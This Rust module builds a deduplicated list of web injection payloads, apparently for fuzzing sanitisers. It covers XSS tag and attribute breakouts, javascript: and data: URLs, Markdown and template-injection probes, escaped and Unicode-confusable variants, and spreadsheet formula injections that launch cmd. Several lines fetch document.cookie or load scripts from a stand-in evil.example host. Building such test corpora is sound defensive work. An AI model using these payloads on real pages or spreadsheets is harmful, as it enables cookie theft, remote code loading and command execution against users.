//! Texts that somebody would write to have a page do something: made of a table of ways out of where they stand, and of what they do
//! then. What they would run is an alarm (`__pwned`), or asks another host.

use std::collections::BTreeSet;

/// What would be run.
const CODE: [&str; 4] =
    ["alert(1)", "__pwned=1", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')"];

/// Ways out of an attribute, a comment, a cell, or an element whose text is no markup.
const BREAKS: [&str; 16] = [
    "",
    "\">",
    "'>",
    "\"'>",
    ">",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</td></tr></table>",
    "</option></select>",
    "</code></pre>",
    "--!><!--",
    "*/ `",
];

const TAGS: [&str; 28] = [
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT\t>",
    "<script src=//evil.example/x.js></script>",
    "<script>{}//",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror={}//",
    "<<img src=//evil.example/pixel.png>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x onload={}>",
    "<math><mtext><table><mglyph><style></math><img src onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<style>@import'//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>{}",
    "<a href=javascript:{}>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<x onclick={} style=position:fixed;inset:0>x</x>",
];

/// Ways to begin another attribute.
const QUOTES: [&str; 7] = ["\" ", "' ", "` ", " ", "&quot; ", "&#39; ", "\\\" "];

const ATTRIBUTES: [&str; 6] = [
    "onmouseover={}",
    "autofocus onfocus={} x=",
    "style=background:url(//evil.example/x) ",
    "accesskey=x onclick='{}",
    "formaction=javascript:{}",
    "srcdoc=<script>{}</script>",
];

const ADDRESSES: [&str; 16] = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\u{1}javascript:{}",
    "javascript:%0a{}",
    "javascript://x/%0a{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{}",
    "//evil.example/{}",
    "/\\evil.example/{}",
    "https:evil.example",
    "blob:https://evil.example/x",
];

/// An address where Markdown has one; the first is the address alone.
const LINKS: [&str; 8] = [
    "@",
    "[x](@)",
    "[x](<@>)",
    "![x](@)",
    "<@>",
    "[x]\n\n[x]: @",
    "[![x](@)](@)",
    "[x](@ \"\" onmouseover=\"alert(1)\")",
];

const TEMPLATES: [&str; 12] = [
    "{{ 7*7 }}",
    "{{7*7}}{% raw %}",
    "{% include 'frame.html' %}",
    "{{ token }}",
    "{# x #}",
    "{{ ''.__class__.__mro__ }}",
    "{{ '<script>' | safe }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
];

/// Escapes that somebody may undo once too often.
const ESCAPED: [&str; 12] = [
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;img src=x onerror={}&#x3e;",
    "&lt&#x0000003cscript>{}",
    "%3Cscript%3E{}%3C/script%3E",
    "%253Cscript%253E{}",
    "\\u003cscript\\u003e{}",
    "\\x3cscript\\x3e{}",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\"};{};//",
    "</script><!--<script>{}",
];

/// Letters that look like others, turn the line round, or end it for some.
const LETTERS: [&str; 14] = [
    "\u{202e}gpj.exe",
    "\u{2066}x\u{2067}y",
    "\u{200f}\u{200b}<script>{}</script>",
    "\u{feff}<script>{}</script>",
    "＜script＞{}＜/script＞",
    "﹤img src=x onerror={}﹥",
    "\u{2028}<img src=x onerror={}>",
    "\u{2029}{}",
    "ʺ onmouseover={} ʺ",
    "Z\u{335}\u{321}\u{353}a\u{335}\u{32e}lgo",
    "\u{fffd}\u{10fffd}\u{fdd0}<b>",
    "\u{e0001}\u{e0073}<i>",
    "x\u{ad}<script>{}</script>",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\"><u>",
];

/// What ends a name for one reader of HTML and not for another. The door refuses most.
const CONTROLS: [&str; 12] =
    ["\u{1}", "\u{8}", "\t", "\n", "\u{b}", "\u{c}", "\r", "\u{1b}", "\u{1f}", "\u{7f}", "\u{85}", "\u{a0}"];

/// What a program for tables would take for a formula.
const FORMULAS: [&str; 18] = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-5 +HYPERLINK(\"https://evil.example\")",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\"=1+1",
    ",=1+1",
    "\",=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
];

/// All of them, each once, in the same order each time.
pub fn all() -> Vec<String> {
    let mut made: Vec<String> = Vec::new();
    let mut nth = 0;
    let mut put = |text: &str| {
        nth += 1;
        made.push(text.replace("{}", CODE[nth % CODE.len()]));
    };
    for way in BREAKS {
        for tag in TAGS {
            put(&format!("{way}{tag}"));
        }
    }
    for quote in QUOTES {
        for attribute in ATTRIBUTES {
            put(&format!("x{quote}{attribute}"));
        }
    }
    for link in LINKS {
        for address in ADDRESSES {
            put(&link.replace('@', address));
        }
    }
    for control in CONTROLS {
        put(&format!("<img{control}src=x{control}onerror={{}}>"));
        put(&format!("<a href=java{control}script:{{}}>x</a>"));
    }
    TEMPLATES.iter().chain(&ESCAPED).chain(&LETTERS).chain(&FORMULAS).for_each(|text| put(text));
    let mut seen = BTreeSet::new();
    made.retain(|text| seen.insert(text.clone()));
    made
}
